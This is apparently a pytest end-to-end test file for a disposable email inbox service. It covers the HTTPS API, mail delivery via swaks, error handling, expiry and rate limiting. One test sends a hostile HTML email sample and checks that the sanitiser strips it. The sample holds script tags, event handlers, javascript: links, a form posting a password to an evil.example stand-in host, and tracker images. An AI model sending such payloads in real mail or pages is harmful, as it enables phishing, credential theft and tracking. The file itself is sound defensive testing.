"""Disposable inboxes end to end (issue #7): the JSON API over real HTTPS,
mail sent with swaks arriving in the API and in the live stream, every
error of every endpoint, hostile HTML made harmless, and expiry that
shreds the files and keys and never hands the address out again."""
import http.client
import json
import os
import re
import sqlite3
import ssl
import subprocess
import threading
import time
from pathlib import Path

import pytest

from conftest import wait_until

DOMAIN = "tmp.example.test"
TOKEN_RE = re.compile(r"^[0-9a-f]{64}$")


def tls_context():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


class Web:
    """A small HTTPS client for one server."""

    def __init__(self, srv):
        self.srv = srv

    def conn(self):
        return http.client.HTTPSConnection("127.0.0.1", self.srv.https_port,
                                           context=tls_context(), timeout=30)

    def request(self, method, path, token=None, body=None, headers=None):
        h = dict(headers or {})
        if token is not None:
            h["Authorization"] = f"Bearer {token}"
        if isinstance(body, (dict, list)):
            body = json.dumps(body)
            h["Content-Type"] = "application/json"
        c = self.conn()
        c.request(method, path, body=body, headers=h)
        r = c.getresponse()
        data = r.read()
        c.close()
        return r, data

    def json(self, method, path, token=None, body=None, status=200):
        r, data = self.request(method, path, token, body)
        assert r.status == status, (method, path, r.status, data)
        return json.loads(data) if data else None

    def error(self, method, path, status, code, token=None, body=None, headers=None):
        r, data = self.request(method, path, token, body, headers)
        assert r.status == status, (method, path, r.status, data)
        assert r.getheader("Content-Type") == "application/json"
        err = json.loads(data)["error"]
        assert err["code"] == code, err
        assert err["message"]
        return r

    def create(self, **fields):
        return self.json("POST", "/api/v1/inboxes", body=fields or None, status=201)


def swaks(srv, to, *args):
    return subprocess.run(["swaks", "--server", f"127.0.0.1:{srv.smtp_port}", "--to", to,
                           "--from", "sender@example.org", "--helo", "client.example.org",
                           *args], capture_output=True, text=True, timeout=60)


def send(srv, to, *args):
    p = swaks(srv, to, *args)
    assert p.returncode == 0, p.stdout + p.stderr
    return p


def wait_messages(web, token, n):
    return wait_until(lambda: (m := web.json("GET", "/api/v1/inbox/messages", token)["messages"])
                      and len(m) >= n and m, 20, what=f"{n} message(s) in the inbox")


@pytest.fixture(scope="module")
def site(workroot, request):
    from conftest import Server, finish_shared
    srv = Server(workroot, "disposable", {
        "spool": {"hold": "no"},
        "disposable": {"domains": f"{DOMAIN}, other.example.test", "ttl": "120",
                       "max_ttl": "300", "create_per_hour": "1000", "sweep_interval": "1"},
    })
    srv.start()
    yield srv
    finish_shared(srv, request)


@pytest.fixture
def web(site):
    assert site.running(), site.log_tail()
    since = len(site.log_text())
    yield Web(site)
    site.check_log(since)


# ---- the page and the headers -------------------------------------------------

SECURITY_HEADERS = ("Content-Security-Policy", "X-Content-Type-Options", "Referrer-Policy",
                    "X-Frame-Options", "Strict-Transport-Security")


def test_page_assets_and_security_headers(web):
    r, body = web.request("GET", "/")
    assert r.status == 200
    assert r.getheader("Content-Type") == "text/html; charset=utf-8"
    assert b'<script src="/app.js"' in body and b"<script>" not in body  # no inline script
    csp = r.getheader("Content-Security-Policy")
    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
    assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    for name in SECURITY_HEADERS:
        assert r.getheader(name), name
    assert r.getheader("X-Content-Type-Options") == "nosniff"
    r, body = web.request("GET", "/app.js")
    assert r.status == 200 and r.getheader("Content-Type").startswith("text/javascript")
    assert not re.search(rb"\.(innerHTML|outerHTML)\s*=|insertAdjacentHTML|document\.write", body)
    r, _ = web.request("GET", "/app.css")
    assert r.status == 200 and r.getheader("Content-Type").startswith("text/css")
    web.error("GET", "/nothing-here", 404, "not_found")
    web.error("POST", "/", 405, "method_not_allowed")
    # API errors carry the headers too
    r = web.error("GET", "/api/v1/inbox", 401, "unauthorized")
    for name in SECURITY_HEADERS:
        assert r.getheader(name), name


def test_plain_http_redirects_to_https(web, site):
    c = http.client.HTTPConnection("127.0.0.1", site.http_port, timeout=30)
    c.request("GET", "/api/v1/config?x=1")
    r = c.getresponse()
    r.read()
    assert r.status == 308
    assert r.getheader("Location") == f"https://127.0.0.1:{site.https_port}/api/v1/config?x=1"
    assert r.getheader("Strict-Transport-Security") is None  # only over HTTPS
    c.close()


def test_config_lists_the_domains(web):
    cfg = web.json("GET", "/api/v1/config")
    assert cfg["domains"] == [DOMAIN, "other.example.test"]
    assert cfg["ttl_seconds"] == 120 and cfg["max_ttl_seconds"] == 300


# ---- creating and errors ----------------------------------------------------------

def test_create_and_state(web):
    before = time.time()
    inbox = web.create()
    assert TOKEN_RE.match(inbox["token"])
    local, domain = inbox["address"].split("@")
    assert domain == DOMAIN and re.match(r"^[a-z][a-z2-9]{11}$", local)
    state = web.json("GET", "/api/v1/inbox", inbox["token"])
    assert state["address"] == inbox["address"]
    assert state["messages"] == 0
    assert before + 110 <= state["expires_unix"] <= time.time() + 130
    assert "token" not in state
    # a chosen domain and local part
    chosen = web.create(domain="other.example.test", local="Alice.Example")
    assert chosen["address"] == "alice.example@other.example.test"
    web.error("POST", "/api/v1/inboxes", 409, "address_taken",
              body={"domain": "other.example.test", "local": "alice.example"})


@pytest.mark.parametrize("body,status,code", [
    ({"domain": "elsewhere.example"}, 400, "unknown_domain"),
    ({"local": "two..dots"}, 400, "invalid_address"),
    ({"local": "a@b"}, 400, "invalid_address"),
    ({"local": "x" * 65}, 400, "invalid_address"),
    ({"local": 7}, 400, "bad_request"),
    ("[1, 2]", 400, "bad_request"),
    ("{not json", 400, "bad_request"),
])
def test_create_refuses_bad_input(web, body, status, code):
    web.error("POST", "/api/v1/inboxes", status, code, body=body)


def test_authentication_errors(web):
    inbox = web.create()
    wrong = ("0" if inbox["token"][0] != "0" else "1") + inbox["token"][1:]
    for token in (wrong, "abc", "z" * 64):
        r = web.error("GET", "/api/v1/inbox", 401, "unauthorized", token=token)
        assert r.getheader("WWW-Authenticate").startswith("Bearer")
    web.error("GET", "/api/v1/inbox", 401, "unauthorized",
              headers={"Authorization": "Basic " + inbox["token"]})
    # the token in upper case is the same token
    assert web.json("GET", "/api/v1/inbox", inbox["token"].upper())["address"] == inbox["address"]


@pytest.mark.parametrize("method,path,allow", [
    ("GET", "/api/v1/inboxes", "POST"),
    ("POST", "/api/v1/inbox", "GET, DELETE"),
    ("GET", "/api/v1/inbox/extend", "POST"),
    ("POST", "/api/v1/inbox/messages", "GET"),
    ("POST", "/api/v1/inbox/messages/1", "GET, DELETE"),
    ("DELETE", "/api/v1/inbox/messages/1/raw", "GET"),
    ("PUT", "/api/v1/config", "GET"),
])
def test_wrong_methods(web, method, path, allow):
    r = web.error(method, path, 405, "method_not_allowed")
    assert r.getheader("Allow") == allow


@pytest.mark.parametrize("path", ["/api/v1/nothing", "/api/v2/inbox", "/api/v1/inbox/messages/0",
                                  "/api/v1/inbox/messages/x", "/api/v1/inbox/messages/01",
                                  "/api/v1/inbox/messages/99999999999",
                                  "/api/v1/inbox/messages/1/parts/x"])
def test_unknown_endpoints(web, path):
    web.error("GET", path, 404, "not_found")


# ---- mail in, through the API and the stream ---------------------------------------

class Stream:
    """GET /api/v1/inbox/events read in a thread: the events with the time each came."""

    def __init__(self, web, token):
        self.conn = web.conn()
        self.conn.request("GET", "/api/v1/inbox/events",
                          headers={"Authorization": f"Bearer {token}"})
        self.resp = self.conn.getresponse()
        assert self.resp.status == 200, self.resp.read()
        assert self.resp.getheader("Content-Type") == "text/event-stream; charset=utf-8"
        self.events = []
        self.thread = threading.Thread(target=self.read, daemon=True)
        self.thread.start()

    def read(self):
        event, data = None, ""
        try:
            for raw in self.resp:
                line = raw.decode().rstrip("\r\n")
                if line.startswith("event: "):
                    event = line[7:]
                elif line.startswith("data: "):
                    data += line[6:]
                elif line == "" and event:
                    self.events.append((event, json.loads(data), time.monotonic()))
                    event, data = None, ""
        except (OSError, ValueError, AttributeError):
            pass  # closed by the test

    def wait(self, kind, n=1):
        return wait_until(lambda: (e := [x for x in self.events if x[0] == kind]) and
                          len(e) >= n and e, 20, what=f"{n} {kind} event(s)")

    def close(self):
        self.conn.close()


def test_mail_arrives_in_the_api_and_the_stream(web, site, tmp_path):
    inbox = web.create()
    token = inbox["token"]
    stream = Stream(web, token)
    ready = stream.wait("ready")[0][1]
    assert ready["address"] == inbox["address"]
    attachment = tmp_path / "report final.pdf"
    attachment.write_bytes(bytes(range(256)) * 8)
    sent = time.monotonic()
    send(site, inbox["address"], "--header", "Subject: Grüße aus Köln",
         "--body", "Hello visitor, see https://example.org/welcome\n",
         "--attach-type", "application/pdf", "--attach", f"@{attachment}")
    event = stream.wait("message")[0]
    print(f"\nSMTP accepted -> stream event after {event[2] - sent:.3f} s")
    assert event[1]["subject"] == "Grüße aus Köln"
    assert event[1]["from"] == "sender@example.org"
    stream.close()

    listed = web.json("GET", "/api/v1/inbox/messages", token)["messages"]
    assert [m["id"] for m in listed] == [event[1]["id"]]
    assert listed[0]["seen"] is False and listed[0]["junk"] is False
    m = web.json("GET", f"/api/v1/inbox/messages/{listed[0]['id']}", token)
    assert m["subject"] == "Grüße aus Köln" and m["to"] == inbox["address"]
    assert "Hello visitor" in m["text"]
    assert m["html_source"] == "text"
    assert '<a href="https://example.org/welcome" target="_blank" rel="noopener noreferrer">' \
        in m["html"]
    assert len(m["attachments"]) == 1
    att = m["attachments"][0]
    assert att["filename"] == "report final.pdf"
    assert att["content_type"] == "application/pdf"
    # reading marked it seen
    assert web.json("GET", "/api/v1/inbox/messages", token)["messages"][0]["seen"] is True

    r, data = web.request("GET", att["url"], token)
    assert r.status == 200 and data == attachment.read_bytes()
    assert r.getheader("Content-Type") == "application/octet-stream"
    assert r.getheader("Content-Disposition") == \
        "attachment; filename=\"report_final.pdf\"; filename*=UTF-8''report%20final.pdf"
    web.error("GET", f"/api/v1/inbox/messages/{m['id']}/parts/77", 404, "not_found", token)

    r, raw = web.request("GET", f"/api/v1/inbox/messages/{m['id']}/raw", token)
    assert r.status == 200 and r.getheader("Content-Type") == "message/rfc822"
    assert r.getheader("Content-Disposition") == f'attachment; filename="message-{m["id"]}.eml"'
    assert b"Subject: =?UTF-8?" in raw or "Grüße".encode() in raw
    assert raw.startswith(b"Authentication-Results: ") or b"\r\nReceived: " in raw

    # another inbox's token sees none of it
    other = web.create()
    web.error("GET", f"/api/v1/inbox/messages/{m['id']}", 404, "not_found", other["token"])
    assert web.json("GET", "/api/v1/inbox/messages", other["token"])["messages"] == []


def test_smtp_refuses_unknown_addresses_on_disposable_domains(web, site):
    p = swaks(site, f"nobody-here@{DOMAIN}")
    assert p.returncode != 0 and "550 5.1.1" in p.stdout


HOSTILE = """<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { background: url(https://evil.example/css.png) }</style>
<script>alert(1)</script></head>
<body onload="alert(2)">
<p style="color: red; background-image: url(https://evil.example/bg.png); width: expression(alert(3))">Hostile hello</p>
<img src="https://tracker.example/pixel.gif" onerror="alert(4)">
<a href="javascript:alert(5)">click</a>
<a href="https://example.org/ok">fine link</a>
<form action="https://evil.example/steal"><input name="password"></form>
<svg><script>alert(6)</script><image href="https://evil.example/svg.png"/></svg>
<iframe src="https://evil.example/frame"></iframe>
</body></html>"""


def test_hostile_html_is_sanitised(web, site, tmp_path):
    inbox = web.create()
    body = tmp_path / "hostile.html"
    body.write_text(HOSTILE)
    send(site, inbox["address"], "--header", "Subject: hostile", "--add-header",
         "MIME-Version: 1.0", "--add-header", "Content-Type: text/html; charset=utf-8",
         "--body", f"@{body}")
    m = wait_messages(web, inbox["token"], 1)[0]
    full = web.json("GET", f"/api/v1/inbox/messages/{m['id']}", inbox["token"])
    html = full["html"]
    assert full["html_source"] == "html"
    assert "Hostile hello" in html
    for bad in ("<script", "onload", "onerror", "javascript:", "<form", "<input", "<svg",
                "<iframe", "<base", "<meta", "expression(", "url(", "<style"):
        assert bad not in html.lower(), bad
    assert not re.search(r'(?<![-\w])src="https://tracker', html)
    assert 'data-sm-src="https://tracker.example/pixel.gif"' in html
    assert '<a href="https://example.org/ok" target="_blank" rel="noopener noreferrer">' in html
    assert full["remote_images"] == 1 and full["remote_images_allowed"] is False
    allowed = web.json("GET", f"/api/v1/inbox/messages/{m['id']}?remote_images=1",
                       inbox["token"])
    assert 'src="https://tracker.example/pixel.gif"' in allowed["html"]
    assert "onerror" not in allowed["html"]


# ---- deleting, extending, expiry -------------------------------------------------------

def test_delete_message_and_inbox(web, site):
    inbox = web.create(local="shortlived")
    token = inbox["token"]
    send(site, inbox["address"], "--header", "Subject: one")
    send(site, inbox["address"], "--header", "Subject: two")
    msgs = wait_messages(web, token, 2)
    first = msgs[-1]["id"]
    r, data = web.request("DELETE", f"/api/v1/inbox/messages/{first}", token)
    assert r.status == 204 and data == b""
    web.error("DELETE", f"/api/v1/inbox/messages/{first}", 404, "not_found", token)
    web.error("GET", f"/api/v1/inbox/messages/{first}", 404, "not_found", token)
    assert [m["subject"] for m in web.json("GET", "/api/v1/inbox/messages", token)["messages"]] \
        == ["two"]

    stream = Stream(web, token)
    stream.wait("ready")
    r, _ = web.request("DELETE", "/api/v1/inbox", token)
    assert r.status == 204
    stream.wait("expired")
    stream.close()
    web.error("GET", "/api/v1/inbox", 401, "unauthorized", token)
    p = swaks(site, inbox["address"])
    assert p.returncode != 0 and "550 5.1.1" in p.stdout
    web.error("POST", "/api/v1/inboxes", 409, "address_taken", body={"local": "shortlived"})


def test_extend_up_to_the_maximum(web):
    inbox = web.create()
    token = inbox["token"]
    first = web.json("GET", "/api/v1/inbox", token)["expires_unix"]
    extended = web.json("POST", "/api/v1/inbox/extend", token)
    assert extended["expires_unix"] >= first + 119
    # max_ttl 300 s from creation: a few more reach it, then 409
    for _ in range(3):
        r, data = web.request("POST", "/api/v1/inbox/extend", token)
        if r.status == 409:
            break
    web.error("POST", "/api/v1/inbox/extend", 409, "max_ttl", token)
    state = web.json("GET", "/api/v1/inbox", token)
    created = time.mktime(time.strptime(state["created"], "%Y-%m-%dT%H:%M:%SZ")) - time.timezone
    assert state["expires_unix"] == int(created) + 300


def inbox_row(site, address):
    db = sqlite3.connect(f"file:{site.data}/directory.db?mode=ro", uri=True)
    try:
        return db.execute("SELECT mailbox, expires FROM inboxes WHERE address = ?",
                          (address,)).fetchone()
    finally:
        db.close()


def test_expiry_shreds_files_and_keys(web, site):
    inbox = web.create(local="expiring")
    token = inbox["token"]
    send(site, inbox["address"], "--header", "Subject: soon gone")
    wait_messages(web, token, 1)
    mailbox, _ = inbox_row(site, inbox["address"])
    files = Path(site.data) / "inboxes" / mailbox
    assert (files / "store.db").exists() and any((files / "msg").iterdir())
    stream = Stream(web, token)
    stream.wait("ready")
    # let its time run out now: the sweeper (every second) does the rest
    db = sqlite3.connect(f"{site.data}/directory.db", timeout=10)
    db.execute("UPDATE inboxes SET expires = ? WHERE address = ?",
               (int(time.time()) - 1, inbox["address"]))
    db.commit()
    db.close()
    wait_until(lambda: not files.exists(), 20, what="the inbox's files removed")
    assert inbox_row(site, inbox["address"]) is None  # row and wraps gone
    stream.wait("expired")
    stream.close()
    web.error("GET", "/api/v1/inbox", 401, "unauthorized", token)
    p = swaks(site, inbox["address"])
    assert p.returncode != 0 and "550 5.1.1" in p.stdout
    web.error("POST", "/api/v1/inboxes", 409, "address_taken", body={"local": "expiring"})
    # the directory keeps only a hash of the address, not the address
    raw = (Path(site.data) / "directory.db").read_bytes()
    wal = Path(f"{site.data}/directory.db-wal")
    raw += wal.read_bytes() if wal.exists() else b""
    assert b"expiring@" not in raw
    assert "inbox removed mailbox=" in site.log_text()


def test_creation_is_rate_limited(make_server):
    srv = make_server({"disposable": {"domains": DOMAIN, "create_per_hour": "3"}})
    web = Web(srv)
    for _ in range(3):
        web.create()
    r = web.error("POST", "/api/v1/inboxes", 429, "rate_limited")
    assert 3000 <= int(r.getheader("Retry-After")) <= 3600


def test_no_domains_no_inboxes(web, make_server):
    srv = make_server({"disposable": {"domains": ""}})
    Web(srv).error("POST", "/api/v1/inboxes", 503, "no_domains")
